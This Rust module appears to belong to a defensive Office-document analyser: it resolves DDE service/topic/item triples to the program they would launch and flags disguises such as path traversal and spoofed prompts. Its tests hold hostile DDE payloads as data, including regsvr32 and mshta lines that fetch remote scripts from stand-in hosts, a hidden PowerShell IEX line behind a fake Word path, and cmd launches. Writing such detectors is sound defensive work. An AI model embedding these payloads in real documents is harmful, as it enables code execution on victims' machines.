//! What a link would really start: one function for all formats (spreadsheet specification,
//! sections 0.1 and 0.2; Word specification, section 0.5).
//!
//! An office program that finds no server starts the service as a program, with the topic as its
//! command line. The item never reaches the process.

use super::normal::{Normal, normal};
use super::path::{self, Canonical};
use super::programs::{Tier, eight, is_ambiguous, tier};
use super::quote::cut;
use super::{Command, target};
use crate::link::{Technique, TechniqueId};

/// What a technique quotes of a path.
const QUOTED_PATH: usize = 1_024;

/// From which part of the triple the image was read.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum ImageSource {
    /// The service holds a program and its arguments; the topic only follows them.
    CommandLine,
    /// The service names a program of the lists.
    Service,
    /// The service is a path.
    ServicePath,
    /// The topic climbs out of the service's folder to another program.
    Traversal,
    /// The topic is an absolute path to a program of the lists, for a server nobody starts.
    TopicPath,
    /// The first eight characters of the service name a program of the lists.
    Truncated8,
    /// The service is some other name: a server, or a program nobody knows.
    Unknown,
}

/// A triple with what it would start.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Resolved {
    pub(crate) command: Command,
    pub(crate) source: ImageSource,
    /// The disguises that were undone here.
    pub(crate) techniques: Vec<Technique>,
    /// The path of the image, resolved.
    pub(crate) path: Canonical,
}

/// Resolves a DDE triple to a command.
pub(crate) fn resolve(service: &str, topic: Option<&str>, item: Option<&str>) -> Resolved {
    let line = match topic.filter(|topic| !topic.is_empty()) {
        Some(topic) => format!("{service} {topic}"),
        None => service.to_owned(),
    };
    let service = normal(service);
    let topic = normal(topic.unwrap_or_default());
    let mut image = Image::of(&service.text, &topic.text);

    let mut techniques = Vec::new();
    let mut note = |fired: bool, id: TechniqueId| {
        if fired {
            techniques.push(Technique::from(id));
        }
    };
    note(
        service.fillers || topic.fillers,
        TechniqueId::FillerCharacters,
    );
    note(
        service.full_width || topic.full_width,
        TechniqueId::FullWidth,
    );
    let spoken = match image.source {
        ImageSource::CommandLine => topic.text.as_str(),
        ImageSource::Service
        | ImageSource::ServicePath
        | ImageSource::TopicPath
        | ImageSource::Traversal => item.unwrap_or_default(),
        ImageSource::Truncated8 | ImageSource::Unknown => "",
    };
    note(is_prose(spoken), TechniqueId::PromptSpoof);

    let path = path::canonical(image.program);
    if path.traversal || image.source == ImageSource::Traversal {
        techniques.push(Technique::step(
            TechniqueId::PathTraversal,
            cut(image.program, QUOTED_PATH),
            cut(&path.text, QUOTED_PATH),
        ));
    }
    let mut base = path::base_name(image.program);
    if image.source == ImageSource::Truncated8 {
        let short = eight(path::stem(&base)).unwrap_or(&base).to_owned();
        techniques.push(Technique::step(
            TechniqueId::ServiceTruncation,
            cut(image.program, QUOTED_PATH),
            short.clone(),
        ));
        base = short;
    }
    let base = path::with_extension(base);
    if image.source == ImageSource::CommandLine {
        image.arguments.push_str(topic.text.trim());
    }
    let arguments = image.arguments.trim();
    Resolved {
        command: Command {
            line,
            image: (!base.is_empty()).then_some(base),
            arguments: (!arguments.is_empty()).then(|| arguments.to_owned()),
            script: None,
            stages: Vec::new(),
        },
        source: image.source,
        techniques,
        path,
    }
}

/// Resolves a whole command line: of an XLM function, an action, a shortcut.
pub(crate) fn resolve_line(line: &str) -> Resolved {
    let Normal { text, .. } = normal(line);
    let decoded = target::percent_decoded(text.trim());
    let text = if text.trim().contains(char::is_whitespace) {
        text.trim()
    } else {
        &decoded
    };
    let text = target::without_local_file_scheme(text);
    let mut resolved = resolve(text, None, None);
    resolved.command.line = line.to_owned();
    resolved
}

/// The program within the triple, before its path is resolved.
struct Image<'a> {
    program: &'a str,
    arguments: String,
    source: ImageSource,
}

impl<'a> Image<'a> {
    /// The order of checks is that of section 10.4.
    fn of(service: &'a str, topic: &'a str) -> Self {
        if let Some((program, arguments)) = traversal(topic)
            && !is_shell_switch(service, topic)
        {
            let arguments = arguments.to_owned();
            return Image {
                program,
                arguments,
                source: ImageSource::Traversal,
            };
        }
        let service = service.trim();
        if let Some((program, rest)) = split_program(service) {
            let rest = rest.trim();
            if !rest.is_empty() {
                let arguments = format!("{rest} ");
                return Image {
                    program,
                    arguments,
                    source: ImageSource::CommandLine,
                };
            }
        }
        let program = before_switches(service);
        let switches = service.get(program.len()..).unwrap_or_default();
        let arguments = format!("{} {topic}", switches.trim());
        let has_path = program.contains(['\\', '/']) || is_drive(program);
        let base = path::base_name(program);
        let stem = path::stem(&base);
        let source = if has_path {
            ImageSource::ServicePath
        } else if tier(stem).is_some() {
            ImageSource::Service
        } else if eight(stem).is_some_and(|eight| tier(eight).is_some()) {
            ImageSource::Truncated8
        } else {
            ImageSource::Unknown
        };
        // A topic that reaches a program of the lists by a path counts unless the service is one
        // that is worse.
        let tame = tier(stem).is_none_or(|tier| tier == Tier::Test);
        if matches!(source, ImageSource::Unknown | ImageSource::Service)
            && tame
            && let Some((program, arguments, climbs)) = program_by_path(topic)
            && (climbs || source == ImageSource::Unknown)
        {
            let arguments = arguments.to_owned();
            let source = if climbs {
                ImageSource::Traversal
            } else {
                ImageSource::TopicPath
            };
            return Image {
                program,
                arguments,
                source,
            };
        }
        Image {
            program,
            arguments,
            source,
        }
    }
}

/// Whether the service is the command interpreter and the topic begins with the switch behind which
/// its command stands, with or without a blank: `/ccalc.exe`.
fn is_shell_switch(service: &str, topic: &str) -> bool {
    let service = service.trim().trim_matches('"');
    let base = path::base_name(service);
    let switch = topic.trim_start().as_bytes();
    let letter = switch.get(1).map(u8::to_ascii_lowercase);
    path::stem(&base) == "cmd"
        && switch.first() == Some(&b'/')
        && matches!(letter, Some(b'c' | b'k' | b'r'))
}

/// The program and its arguments when the topic leaves the service's folder. The topic must begin
/// with the dot segments: `/k \..\..` is an argument of the service. A relative path to a document
/// is what Office programs ask each other for.
fn traversal(topic: &str) -> Option<(&str, &str)> {
    let topic = topic.trim().trim_start_matches(['"', '\'']);
    let (dots, rest) = dot_segments(topic);
    // Without dot segments, `/c calc.exe` must stay a switch: there the first word decides.
    let split = if dots || topic.starts_with('\\') {
        split_program(rest)
    } else {
        None
    };
    let first_word = || rest.split_once(char::is_whitespace).unwrap_or((rest, ""));
    let (program, arguments) = split.unwrap_or_else(first_word);
    let base = path::base_name(program);
    let runs = path::executable_extension(&base).is_some();
    let leaves = if dots {
        // Folders of documents have blanks in their names: `..\My Files\a.xls`.
        let document = path::document_extension(&base)
            || path::document_extension(&path::base_name(topic))
                && !runs
                && !is_known(topic, program, &base);
        topic.starts_with(['\\', '/']) || !document
    } else {
        let local = !topic.starts_with("\\\\");
        let known = tier(path::stem(&base)).is_some();
        runs && topic.starts_with(['\\', '/', '.']) && (known || local)
            || topic.starts_with('\\') && is_known(topic, program, &base)
    };
    // What is shown is the whole path, with the dot segments.
    let skipped = topic.len().checked_sub(rest.len())?;
    let end = skipped.checked_add(program.len())?;
    (leaves && !base.is_empty()).then_some((topic.get(..end)?, arguments))
}

/// The program of the lists, its arguments and whether the path climbs, when the topic is a path to
/// one: `C:\Windows\System32\cmd.exe`, `x\..\..\Windows\System32\cmd.exe`. As in front of dot
/// segments, a switch in front of the path makes it an argument.
fn program_by_path(topic: &str) -> Option<(&str, &str, bool)> {
    let topic = topic.trim().trim_start_matches(['"', '\'']);
    let (program, arguments) = split_program(topic).or_else(|| {
        let first = topic.split_once(char::is_whitespace);
        Some(first.unwrap_or((topic, "")))
    })?;
    let base = path::base_name(program);
    let path = path::canonical(program);
    let mut words = program.split_whitespace();
    let argument = words.any(|word| word.starts_with(['/', '-']));
    let placed = path.traversal || is_drive(program);
    let found = placed && !argument && is_known(topic, program, &base);
    found.then_some((program, arguments, path.traversal))
}

/// Whether the path at the start of a topic is that of a program of the lists. Without an
/// extension it may be a folder of a document (`\calc files\a.xls`) or a share.
fn is_known(topic: &str, program: &str, base: &str) -> bool {
    let stem = path::stem(base);
    if tier(stem).is_none() {
        return false;
    }
    let path = path::canonical(program).text;
    let system = ["\\system32\\", "\\syswow64\\", "\\sysnative\\"];
    let spelled_out = stem.len() < base.len() || system.iter().any(|folder| path.contains(folder));
    let document = path::document_extension(&path::base_name(topic));
    spelled_out || !(document || is_ambiguous(stem) || topic.starts_with("\\\\"))
}

/// Skips separators, `.` and `..` in front. True when there was a `..`.
fn dot_segments(topic: &str) -> (bool, &str) {
    let separators = ['\\', '/'];
    let mut rest = topic.trim_start_matches(separators);
    let mut dots = false;
    loop {
        let (next, climbs) = if let Some(next) = rest.strip_prefix("..") {
            (next, true)
        } else if let Some(next) = rest.strip_prefix('.') {
            (next, false)
        } else {
            return (dots, rest);
        };
        if !next.starts_with(separators) {
            return (dots, rest);
        }
        dots |= climbs;
        rest = next.trim_start_matches(separators);
    }
}

/// Splits a command line after its program: the first name that has an executable extension or is
/// a program of the lists. `None` when there is no such name. Linear: each word is looked at twice
/// at most.
fn split_program(line: &str) -> Option<(&str, &str)> {
    if let Some(quoted) = line.strip_prefix('"')
        && let Some((program, rest)) = quoted.split_once('"')
        && !program.is_empty()
    {
        return Some((program, rest));
    }
    let mut word_start = 0;
    let mut after_separator = true;
    let mut previous = '\\';
    // A slash is part of a web address, and of a path that is written with slashes.
    let mut slashes = line.contains(':') && line.contains("://");
    let mut delimited = false;
    let mut ends = line.char_indices().chain([(line.len(), ' ')]).peekable();
    while let Some((at, c)) = ends.next() {
        let next = at.saturating_add(c.len_utf8());
        let word = || line.get(word_start..at).unwrap_or_default();
        match c {
            '\\' => {
                (word_start, after_separator) = (next, true);
                (slashes, delimited) = (false, false);
            }
            // A slash after a blank begins a switch, and so does one after a program.
            '/' if !previous.is_whitespace() => {
                let letter = ends.peek().is_some_and(|(_, c)| c.is_ascii_alphabetic());
                if letter && ends_at_slash(word(), slashes, after_separator) {
                    return line.split_at_checked(at);
                }
                (word_start, after_separator) = (next, true);
                slashes = true;
                delimited = false;
            }
            // The other delimiters of a command line.
            ',' | ';' | '=' if !delimited => {
                delimited = true;
                if after_separator && ends_at_delimiter(word()) {
                    return line.split_at_checked(at);
                }
            }
            c if c.is_whitespace() => {
                if starts_something(word(), after_separator) {
                    return line.split_at_checked(at);
                }
                (word_start, after_separator) = (next, false);
                delimited = false;
            }
            _ => {}
        }
        previous = c;
    }
    None
}

/// Whether one word of a command line ends the name of its program.
fn starts_something(word: &str, after_separator: bool) -> bool {
    if word.is_empty() || word.starts_with(['/', '-']) {
        return false;
    }
    let base = path::base_name(word);
    path::executable_extension(&base).is_some()
        || (after_separator && tier(path::stem(&base)).is_some())
}

/// Whether a slash behind this word is a switch: `cmd/k`, `cmd.exe/k`. In a path that is written
/// with slashes, only the full name of a program of the lists ends it: folders are called `java`.
fn ends_at_slash(word: &str, slashes: bool, after_separator: bool) -> bool {
    let base = path::base_name(word);
    let stem = path::stem(&base);
    let spelled_out = stem.len() < base.len();
    let known = after_separator && tier(stem).is_some();
    // A name that ends in .com is a host.
    let runs = path::executable_extension(&base).is_some_and(|extension| extension != "com");
    let bare = !slashes && !is_ambiguous(stem);
    known && (spelled_out || bare) || runs && spelled_out && !slashes
}

/// Whether `,`, `;` or `=` behind this word end the name of a program of the lists. Servers have
/// such characters in their topics, and short names of their own.
fn ends_at_delimiter(word: &str) -> bool {
    let base = path::base_name(word);
    let stem = path::stem(&base);
    tier(stem).is_some() && !is_ambiguous(stem)
}

/// The part of a text in front of its first switch.
fn before_switches(text: &str) -> &str {
    let mut previous = 'x';
    for (at, c) in text.char_indices() {
        if matches!(c, '/' | '-') && previous.is_whitespace() {
            return text.get(..at).unwrap_or(text).trim_end();
        }
        previous = c;
    }
    text
}

fn is_drive(text: &str) -> bool {
    let mut chars = text.chars();
    chars.next().is_some_and(|c| c.is_ascii_alphabetic()) && chars.next() == Some(':')
}

/// Words for people rather than a range or a bookmark: `for security reasons`.
fn is_prose(text: &str) -> bool {
    // Symbols of securities and their fields: `AAPL US Equity,[BID]`.
    if text.contains(['[', ']', '!', '=', '|']) {
        return false;
    }
    let words = text.split_whitespace().filter(|word| {
        word.chars()
            .all(|c| c.is_alphabetic() || matches!(c, '-' | '.' | ','))
    });
    let spoken = |word: &&str| word.chars().filter(|c| c.is_lowercase()).count() >= 2;
    words.filter(spoken).count() >= 2
}

#[cfg(test)]
mod tests {
    use super::*;

    fn image(service: &str, topic: &str) -> (String, ImageSource) {
        let resolved = resolve(service, Some(topic), None);
        (resolved.command.image.unwrap_or_default(), resolved.source)
    }

    #[test]
    fn table_of_section_0_2() {
        use ImageSource::*;
        for (service, topic, expected, source) in [
            ("cmd", "/c calc", "cmd.exe", Service),
            (
                "MSEXCEL",
                "\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://x scrobj.dll",
                "regsvr32.exe",
                Traversal,
            ),
            (
                "cmd",
                "/k \\..\\..\\..\\Windows\\System32\\calc.exe",
                "cmd.exe",
                Service,
            ),
            (
                "rundll321234567890abc",
                "URL.dll,OpenURL calc.exe",
                "rundll32.exe",
                Truncated8,
            ),
            (
                "C:\\Windows\\System32\\mshta",
                "http://x/a.hta",
                "mshta.exe",
                ServicePath,
            ),
            ("Excel", "[Book1.xlsx]Sheet1", "excel.exe", Unknown),
        ] {
            assert_eq!(
                image(service, topic),
                (expected.into(), source),
                "{service}|{topic}"
            );
        }
    }

    #[test]
    fn the_whole_command_line_in_the_service() {
        let service = "C:\\Programs\\Microsoft\\Office\\MSWord.exe\\..\\..\\..\\..\\windows\\\
            system32\\WindowsPowerShell\\v1.0\\powershell.exe -NoP -w Hidden IEX 'x'; # ";
        let topic = "Microsoft Document Security Add-On";
        let resolved = resolve(service, Some(topic), None);
        assert_eq!(resolved.source, ImageSource::CommandLine);
        assert_eq!(resolved.command.image.as_deref(), Some("powershell.exe"));
        assert_eq!(
            resolved.command.arguments.as_deref(),
            Some("-NoP -w Hidden IEX 'x'; # Microsoft Document Security Add-On")
        );
        assert_eq!(resolved.command.line, format!("{service} {topic}"));
        assert_eq!(
            resolved.path.text,
            "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe"
        );
        let ids: Vec<_> = resolved
            .techniques
            .iter()
            .map(|technique| technique.id)
            .collect();
        assert_eq!(ids, [TechniqueId::PromptSpoof, TechniqueId::PathTraversal]);
    }

    #[test]
    fn decoys_and_disguises() {
        use ImageSource::*;
        let decoy = "C:\\Programs\\Microsoft\\Office\\MSWord.exe\\..\\..\\..\\..\\windows\\system32\\cmd.exe";
        assert_eq!(image(decoy, "/c calc.exe"), ("cmd.exe".into(), ServicePath));
        let p10 = "MSEXCEL\\..\\..\\..\\Windows\\System32\\cmd.exe";
        assert_eq!(image(p10, "/c calc"), ("cmd.exe".into(), ServicePath));
        let excel = "\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe";
        let resolved = resolve("MSEXCEL", Some(excel), None);
        assert_eq!(resolved.command.arguments.as_deref(), Some("/c calc.exe"));
        assert_eq!(image("cmd /c calc", ""), ("cmd.exe".into(), CommandLine));
        assert_eq!(image("C\0m\0D", "/c"), ("cmd.exe".into(), Service));
        assert_eq!(image("%COMSPEC%", "/c"), ("cmd.exe".into(), Service));
        assert_eq!(image("\"cmd\"", "/c"), ("cmd.exe".into(), Service));
        assert_eq!(
            image("MSEXCEL", "\\Windows\\System32\\cmd.exe"),
            ("cmd.exe".into(), Traversal)
        );
        assert_eq!(
            image("\"C:\\Program Files\\a b\\x.exe\" -q", ""),
            ("x.exe".into(), CommandLine)
        );
        assert_eq!(
            image("C:\\Program Files\\a b\\x.exe -q", ""),
            ("x.exe".into(), CommandLine)
        );
        assert_eq!(
            image("c:windowssystem32cmd.exe", "/k"),
            ("windowssystem32cmd.exe".into(), ServicePath)
        );
    }

    /// A decoy in front of the dot segments, a rooted path, an absolute one.
    #[test]
    fn programs_by_path_in_the_topic() {
        use ImageSource::*;
        for (topic, source) in [
            ("\\Windows\\System32\\cmd /c calc", Traversal),
            ("x\\..\\..\\Windows\\System32\\cmd.exe /c calc", Traversal),
            ("\\x\\..\\..\\Windows\\System32\\cmd /c calc", Traversal),
            ("[a]\\..\\..\\Windows\\System32\\cmd.exe /c calc", Traversal),
            ("a b\\..\\..\\Windows\\System32\\cmd.exe /c calc", Traversal),
            ("C:\\x\\..\\Windows\\System32\\cmd.exe /c calc", Traversal),
            ("C:\\Windows\\System32\\cmd.exe /c calc", TopicPath),
            ("C:\\Windows\\System32\\cmd /c calc", TopicPath),
        ] {
            let resolved = resolve("MSEXCEL", Some(topic), None);
            assert_eq!(
                resolved.command.image.as_deref(),
                Some("cmd.exe"),
                "{topic}"
            );
            assert_eq!(
                resolved.command.arguments.as_deref(),
                Some("/c calc"),
                "{topic}"
            );
            assert_eq!(resolved.source, source, "{topic}");
        }
        let notepad = "x\\..\\..\\Windows\\System32\\cmd.exe";
        assert_eq!(image("notepad", notepad), ("cmd.exe".into(), Traversal));
        let argument = "C:\\Windows\\System32\\calc.exe";
        assert_eq!(image("cmd", argument), ("cmd.exe".into(), Service));
        for topic in [
            "C:\\calc files\\prices.xls",
            "\\calc files\\prices.xls",
            "..\\calc files\\prices.xls",
            "..\\My Files\\prices.xls",
            "data\\..\\prices.xlsx",
            "C:\\data\\..\\[prices.xlsx]cmd",
            "C:\\cmd\\prices.xlsx",
            "\\\\server\\apps\\control",
        ] {
            assert_eq!(
                image("Excel", topic),
                ("excel.exe".into(), Unknown),
                "{topic}"
            );
        }
    }

    /// The command interpreter takes `/`, `,`, `;` and `=` for the end of a program's name.
    #[test]
    fn a_program_ends_at_a_switch_or_delimiter() {
        for (service, topic, arguments) in [
            ("cmd/k calc.exe", "m", "/k calc.exe m"),
            ("cmd.exe/k calc.exe", "m", "/k calc.exe m"),
            ("cmd.exe/kcalc", "", "/kcalc"),
            (
                "c:\\windows\\system32\\cmd.exe/k calc.exe",
                "m",
                "/k calc.exe m",
            ),
            ("c:\\windows\\system32\\cmd/k calc", "", "/k calc"),
            ("c:/windows/system32/cmd.exe/k calc", "", "/k calc"),
            ("cmd,", "/k calc", ", /k calc"),
            ("cmd;", "/k calc", "; /k calc"),
            ("cmd=", "/k calc", "= /k calc"),
            ("cmd.exe,/k calc", "", ",/k calc"),
        ] {
            let resolved = resolve(service, Some(topic), None);
            assert_eq!(
                resolved.command.image.as_deref(),
                Some("cmd.exe"),
                "{service}"
            );
            assert_eq!(resolved.command.arguments.as_deref(), Some(arguments));
            assert_eq!(resolved.source, ImageSource::CommandLine, "{service}");
        }
        for (service, expected) in [
            ("C:/java/bin/feed.exe", "feed.exe"),
            ("http://cmd/a.exe", "a.exe"),
            ("http://evil.com/a.exe", "a.exe"),
            (
                "C:/Office/MSWord.exe/../../windows/system32/calc.exe",
                "calc.exe",
            ),
            ("c:/windows/system32/mshta.exe", "mshta.exe"),
            ("net,work", "net,work.exe"),
            ("AT/T", "t.exe"),
            ("EUR/USD", "usd.exe"),
        ] {
            assert_eq!(image(service, "").0, expected, "{service}");
        }
    }

    /// Short names that the file system gives to long ones.
    #[test]
    fn short_names_and_pieces_of_variables() {
        for (service, expected) in [
            ("c:\\WINDOWS\\system32\\POWERS~1.EXE", "powershell.exe"),
            ("POWERS~1", "powershell.exe"),
            ("REGSVR~1.EXE", "regsvr32.exe"),
            ("RUNDLL~1", "rundll32.exe"),
            ("%COMSPEC:~0,30%", "cmd.exe"),
            ("%ComSpec:~-7%", "cmd.exe"),
            ("%COMSPEC:a=b%", "cmd.exe"),
            ("MICROS~1.EXE", "micros~1.exe"),
            ("C:\\PRESEN~1", "presen~1.exe"),
            ("REGSVR~1.XLS", "regsvr~1.xls"),
        ] {
            assert_eq!(image(service, "x").0, expected, "{service}");
        }
    }

    #[test]
    fn servers_stay_what_they_are() {
        use ImageSource::*;
        assert_eq!(image("BLP", "M"), ("blp.exe".into(), Unknown));
        assert_eq!(
            image("ünicöde-test", ""),
            ("ünicöde-test.exe".into(), Unknown)
        );
        assert_eq!(
            image("Excel", "..\\prices.xlsx"),
            ("excel.exe".into(), Unknown)
        );
        assert_eq!(
            image("Excel", ".\\prices.xlsx"),
            ("excel.exe".into(), Unknown)
        );
        assert_eq!(
            image("Excel", "\\\\server\\share\\a.xlsx"),
            ("excel.exe".into(), Unknown)
        );
        assert_eq!(image("", ""), ("".into(), Unknown));
        let item = resolve("BLP", Some("M"), Some("INDU Index,[PX_close_5d]"));
        assert_eq!(item.techniques, []);
    }

    #[test]
    fn the_third_argument_of_the_prompt() {
        let spoofed = resolve(
            "c:\\windows\\cmd.exe",
            Some("/c calc.exe"),
            Some("for security reasons"),
        );
        assert_eq!(
            spoofed.techniques,
            [Technique::from(TechniqueId::PromptSpoof)]
        );
        for item in ["A0", "AAPL US Equity,[BID]", "EURUSD Curncy", "Sheet1!R1C1"] {
            assert_eq!(resolve("cmd", Some("/c calc"), Some(item)).techniques, []);
        }
    }

    #[test]
    fn command_lines_of_actions() {
        let resolved = resolve_line("powershell%20-NoP%20-c%20iex");
        assert_eq!(resolved.command.image.as_deref(), Some("powershell.exe"));
        assert_eq!(resolved.command.arguments.as_deref(), Some("-NoP -c iex"));
        let resolved = resolve_line("file:///C:/Windows/System32/cmd.exe");
        assert_eq!(resolved.command.image.as_deref(), Some("cmd.exe"));
        assert_eq!(
            resolve_line("evil.lnk").command.image.as_deref(),
            Some("evil.lnk")
        );
    }
}
